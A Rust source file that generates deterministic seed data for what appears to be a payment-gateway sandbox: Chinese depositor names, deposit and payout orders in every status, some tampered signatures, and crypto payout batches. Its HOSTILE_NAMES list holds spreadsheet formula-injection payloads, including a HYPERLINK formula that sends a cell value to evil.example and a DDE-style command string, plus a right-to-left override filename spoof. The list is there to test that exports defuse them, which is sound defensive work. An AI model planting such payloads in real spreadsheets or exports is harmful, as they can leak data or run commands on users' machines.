//! Deterministic, realistic seed data for the sandbox: Chinese depositor names, every status,
//! a few orders whose `sign` was tampered with and a few hostile names.

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::{Map, Value, json};

use crate::gateway::cny::banks::{Bank, find_bank};

const SURNAMES: &[&str] = &[
    "王", "李", "张", "刘", "陈", "杨", "黄", "赵", "吴", "周", "徐", "孙", "马", "朱", "胡", "郭",
    "何", "高", "林", "罗", "郑", "梁", "谢", "宋", "唐", "许", "韩", "冯", "邓", "曹", "欧阳",
    "司马",
];
const GIVEN: &[&str] = &[
    "伟", "芳", "娜", "秀英", "敏", "静", "丽", "强", "磊", "军", "洋", "勇", "艳", "杰", "娟",
    "涛", "明", "超", "秀兰", "霞", "平", "刚", "桂英", "小红", "建国", "志强", "海燕", "晓东",
    "子涵", "浩然",
];

/// Names that attack spreadsheets and displays; the console and exports must defuse them.
pub const HOSTILE_NAMES: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
    "+86 138 0013 8000",
    "-1+1|cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{202e}王小明\u{202c} gnp.exe",
    "\t=1+1\r",
];

pub fn chinese_name(rng: &mut ChaCha8Rng) -> String {
    let s = SURNAMES[rng.random_range(0..SURNAMES.len())];
    let g = GIVEN[rng.random_range(0..GIVEN.len())];
    format!("{s}{g}")
}

fn amount_fen(rng: &mut ChaCha8Rng) -> i64 {
    // Operators mostly move round sums; some are exact to the fen.
    match rng.random_range(0..10) {
        0..=5 => rng.random_range(1..=500) * 10_000,
        6..=7 => rng.random_range(100..=2_000) * 100,
        _ => rng.random_range(5_000..=5_000_000),
    }
}

fn pick_status(rng: &mut ChaCha8Rng, weights: &[(i64, u32)]) -> i64 {
    let total: u32 = weights.iter().map(|(_, w)| w).sum();
    let mut roll = rng.random_range(0..total);
    for (status, w) in weights {
        if roll < *w {
            return *status;
        }
        roll -= w;
    }
    weights[0].0
}

/// Deposit statuses: mostly success (2), every other value present.
const DEPOSIT_WEIGHTS: &[(i64, u32)] = &[(2, 70), (3, 8), (4, 7), (0, 8), (1, 7)];
/// Payout statuses: mostly success (3), every other value present.
const PAYOUT_WEIGHTS: &[(i64, u32)] = &[(3, 70), (5, 6), (4, 5), (0, 4), (1, 5), (2, 6), (6, 4)];

/// The sandbox's fee on a successful order: 0.8 % plus ¥2, in whole fen.
pub fn fee_fen(amount: i64) -> i64 {
    amount * 8 / 1000 + 200
}

pub struct SeedSpec {
    pub seed: u64,
    pub deposits: usize,
    pub payouts: usize,
    pub platform_id: String,
    /// The newest possible creation time (Unix seconds); data spans the 90 days before it.
    pub anchor_secs: i64,
}

const SPAN_SECS: i64 = 90 * 24 * 3600;

/// Generates deposits (`true`) and payouts, oldest first, handing each to `keep` with its
/// fields without `sign` and, for a tampered order, the sign of its fields *before* they
/// were altered.
pub fn seed_orders(
    spec: &SeedSpec,
    md5_sign: &dyn Fn(&Map<String, Value>) -> String,
    keep: &mut dyn FnMut(bool, Map<String, Value>, Option<String>),
) {
    let mut rng = ChaCha8Rng::seed_from_u64(spec.seed);
    seed_kind(&mut rng, spec, spec.deposits, true, md5_sign, keep);
    seed_kind(&mut rng, spec, spec.payouts, false, md5_sign, keep);
}

fn seed_kind(
    rng: &mut ChaCha8Rng,
    spec: &SeedSpec,
    count: usize,
    deposit: bool,
    md5_sign: &dyn Fn(&Map<String, Value>) -> String,
    keep: &mut dyn FnMut(bool, Map<String, Value>, Option<String>),
) {
    let mut times: Vec<i64> = (0..count)
        .map(|_| spec.anchor_secs - rng.random_range(60..SPAN_SECS))
        .collect();
    times.sort_unstable();
    // Spread the special orders through the list, never at random positions a test can't find.
    let tamper_every = (count / 5).max(1);
    let hostile_every = (count / HOSTILE_NAMES.len()).max(1);
    for (i, create_time) in times.into_iter().enumerate() {
        let seq = i + 1;
        let mut fields = order_fields(rng, spec, deposit, seq, create_time);
        if count >= HOSTILE_NAMES.len() && i % hostile_every == hostile_every / 2 {
            let hostile = HOSTILE_NAMES[(i / hostile_every) % HOSTILE_NAMES.len()];
            let field = if deposit { "payment_cl_name" } else { "memo" };
            fields.insert(field.into(), Value::from(hostile));
        }
        if deposit && i == count / 3 {
            fields.insert("payment_cl_name".into(), Value::from("长".repeat(300)));
        }
        let sign_override = (i % tamper_every == tamper_every / 3).then(|| {
            let sign = md5_sign(&fields);
            // Tampered after signing: an amount raised by ¥100.
            let amount = fields.get("amount").and_then(Value::as_i64).unwrap_or(0);
            fields.insert("amount".into(), Value::from(amount + 10_000));
            sign
        });
        keep(deposit, fields, sign_override);
    }
}

fn channel(rng: &mut ChaCha8Rng) -> String {
    format!("PFC{:08}", 140 + rng.random_range(0..6))
}

/// What a seeded deposit and a seeded payout draw alike, in the order they draw it (the seed
/// gives the same rows only while that order holds).
struct Drawn {
    amount: i64,
    status: i64,
    /// What reached the account: all of `amount` for a success, nothing otherwise.
    real_amount: i64,
    fee: i64,
    update_time: i64,
}

fn draw(
    rng: &mut ChaCha8Rng,
    weights: &[(i64, u32)],
    success_status: i64,
    create_time: i64,
    most_secs_to_update: i64,
) -> Drawn {
    let amount = amount_fen(rng);
    let status = pick_status(rng, weights);
    let success = status == success_status;
    let update_time = create_time + rng.random_range(30..most_secs_to_update);
    Drawn {
        amount,
        status,
        real_amount: if success { amount } else { 0 },
        fee: if success { fee_fen(amount) } else { 0 },
        update_time,
    }
}

/// One seeded order's fields, a deposit's or a payout's, in the gateway's order. What is
/// drawn, and in which order, is fixed: the seed gives the same orders only while it holds.
pub(crate) fn order_fields(
    rng: &mut ChaCha8Rng,
    spec: &SeedSpec,
    deposit: bool,
    seq: usize,
    create_time: i64,
) -> Map<String, Value> {
    let drawn = if deposit {
        draw(rng, DEPOSIT_WEIGHTS, 2, create_time, 1_800)
    } else {
        draw(rng, PAYOUT_WEIGHTS, 3, create_time, 3_600)
    };
    let (ids, memo) = if deposit {
        let ids = json!({
            "payment_id": format!("PM{seq:08}"),
            // By sequence, not by time: a sandbox started again shows the same order IDs.
            "payment_cl_id": format!("dep_{seq:07}"),
            "payment_cl_name": chinese_name(rng),
        });
        (ids, "")
    } else {
        let memo = if rng.random_range(0..8) == 0 {
            "工资"
        } else {
            ""
        };
        let ids = json!({
            "payout_id": format!("POT{seq:08}"),
            "payout_cl_id": format!("pay_{seq:07}"),
        });
        (ids, memo)
    };
    let mut map = into_map(json!({
        "amount": drawn.amount,
        "real_amount": drawn.real_amount,
        "fee": drawn.fee,
    }));
    map.extend(into_map(ids));
    map.extend(into_map(json!({
        "platform_id": spec.platform_id,
        "platform_channel_id": channel(rng),
        "status": drawn.status,
        "memo": memo,
        "create_time": create_time,
        "update_time": drawn.update_time,
    })));
    map
}

pub fn into_map(v: Value) -> Map<String, Value> {
    match v {
        Value::Object(m) => m,
        _ => Map::new(),
    }
}

/// A GatePay batch as the sandbox keeps it.
#[derive(Clone, Debug)]
pub struct StoredBatch {
    pub batch_id: String,
    pub create_time_ms: i64,
    pub channel_id: String,
    pub sub_orders: Vec<StoredSubOrder>,
    /// Created through the API: statuses move with time. Seeded batches stay as they are.
    pub live: bool,
}

#[derive(Clone, Debug)]
pub struct StoredSubOrder {
    pub id: i64,
    pub suborder_id: String,
    pub merchant_withdraw_id: String,
    pub currency: String,
    pub chain: String,
    pub address: String,
    pub memo: String,
    /// Exact decimal text.
    pub amount: String,
    pub fee: String,
    /// For seeded batches, the fixed status; for live ones, where they end.
    pub status: String,
    pub err_msg: String,
    pub update_time_ms: i64,
    pub finish_time_ms: i64,
    pub tx_id: String,
}

const CHAINS: &[(&str, &str)] = &[
    ("USDT", "TRX"),
    ("USDT", "ETH"),
    ("USDC", "ETH"),
    ("BTC", "BTC"),
    ("ETH", "ETH"),
];

pub fn address_for(chain: &str, rng: &mut ChaCha8Rng) -> String {
    let hex: String = (0..40)
        .map(|_| char::from(b"0123456789abcdef"[rng.random_range(0..16)]))
        .collect();
    match chain {
        "TRX" => format!("T{}", &hex[..33].to_ascii_uppercase()),
        "BTC" => format!("bc1q{}", &hex[..38]),
        _ => format!("0x{hex}"),
    }
}

fn tx_id(rng: &mut ChaCha8Rng) -> String {
    (0..64)
        .map(|_| char::from(b"0123456789abcdef"[rng.random_range(0..16)]))
        .collect()
}

/// Seeded batches: finished ones of every kind, and one stuck in review for hours.
pub fn seed_batches(seed: u64, anchor_ms: i64) -> Vec<StoredBatch> {
    let mut rng = ChaCha8Rng::seed_from_u64(seed ^ 0x9a7e_9a7e);
    let mut batches = Vec::new();
    let mut next_id = 634_700_i64;
    let plans: &[&[&str]] = &[
        &["DONE", "DONE", "DONE"],
        &["DONE", "FAIL", "DONE", "DONE"],
        &["FAIL", "FAIL"],
        &["DONE"; 12],
        &["CHECK", "PROCESSING", "DONE", "PENDING", "INIT", "FAIL"],
        &["PROCESSING", "PROCESSING", "CHECK"],
    ];
    for (b, plan) in plans.iter().enumerate() {
        let age_ms = if b >= 4 {
            3 * 3600 * 1000
        } else {
            (30 - b as i64 * 5) * 24 * 3600 * 1000
        };
        let create_time_ms = anchor_ms - age_ms;
        let batch_id = format!("M571432691{:02}", 40 + b);
        let sub_orders = plan
            .iter()
            .enumerate()
            .map(|(i, status)| {
                let (currency, chain) = CHAINS[rng.random_range(0..CHAINS.len())];
                next_id += 1;
                let amount = format!(
                    "{}.{:02}",
                    rng.random_range(1..5_000),
                    rng.random_range(0..100)
                );
                let done = *status == "DONE";
                StoredSubOrder {
                    id: next_id,
                    suborder_id: format!("358037665225{:05}", next_id % 100_000),
                    merchant_withdraw_id: format!("w{}{i:02}", 40 + b),
                    currency: currency.to_owned(),
                    chain: chain.to_owned(),
                    address: address_for(chain, &mut rng),
                    memo: String::new(),
                    amount,
                    fee: if done { "1".to_owned() } else { "0".to_owned() },
                    status: (*status).to_owned(),
                    err_msg: if *status == "FAIL" {
                        "address is not valid for this chain".to_owned()
                    } else {
                        String::new()
                    },
                    update_time_ms: create_time_ms + 60_000 * (i as i64 + 1),
                    finish_time_ms: if done || *status == "FAIL" {
                        create_time_ms + 600_000
                    } else {
                        0
                    },
                    tx_id: if done { tx_id(&mut rng) } else { String::new() },
                }
            })
            .collect();
        batches.push(StoredBatch {
            batch_id,
            create_time_ms,
            channel_id: String::new(),
            sub_orders,
            live: false,
        });
    }
    batches
}

pub fn random_tx_id(rng: &mut ChaCha8Rng) -> String {
    tx_id(rng)
}

/// The bank a payout request names, by `bank_id`, `bank_code` or `bank_name` (any of the
/// list's spellings), as the platform's docs and real clients send it. Refused as the gateway
/// does: none of the three is `0002`; one the list does not hold is `0012`.
pub fn requested_bank<'a>(
    banks: &'a [Bank],
    request: &Map<String, Value>,
) -> Result<&'a Bank, (&'static str, String)> {
    let mut found: Option<&Bank> = None;
    for field in ["bank_id", "bank_code", "bank_name"] {
        let text = match request.get(field) {
            Some(Value::String(s)) if !s.trim().is_empty() => s.trim(),
            None | Some(Value::Null) => continue,
            Some(Value::String(_)) => continue,
            Some(_) => return Err(("0002", format!("{field} must be text"))),
        };
        let Some(bank) = find_bank(banks, text) else {
            return Err(("0012", format!("{field} {text}")));
        };
        if found.is_some_and(|f| f != bank) {
            return Err(("0002", "the bank fields name different banks".to_owned()));
        }
        found = Some(bank);
    }
    found.ok_or_else(|| {
        (
            "0002",
            "one of bank_name, bank_code or bank_id is required".to_owned(),
        )
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seeded_ids(anchor_secs: i64) -> Vec<String> {
        let spec = SeedSpec {
            seed: 7,
            deposits: 20,
            payouts: 20,
            platform_id: "PF1".into(),
            anchor_secs,
        };
        let mut ids = Vec::new();
        seed_orders(&spec, &|_| String::new(), &mut |_, fields, _| {
            for key in ["payment_cl_id", "payout_cl_id", "payment_id", "payout_id"] {
                if let Some(id) = fields.get(key).and_then(Value::as_str) {
                    ids.push(id.to_owned());
                }
            }
        });
        for batch in seed_batches(7, anchor_secs * 1000) {
            ids.push(batch.batch_id.clone());
            ids.extend(
                batch
                    .sub_orders
                    .iter()
                    .map(|s| s.merchant_withdraw_id.clone()),
            );
        }
        ids
    }

    #[test]
    fn seeded_ids_stay_the_same_when_the_sandbox_starts_later() {
        let first = seeded_ids(1_796_000_000);
        assert_eq!(first, seeded_ids(1_796_000_000 + 86_400 + 17));
        assert!(first.iter().any(|id| id.starts_with("pay_")));
    }
}
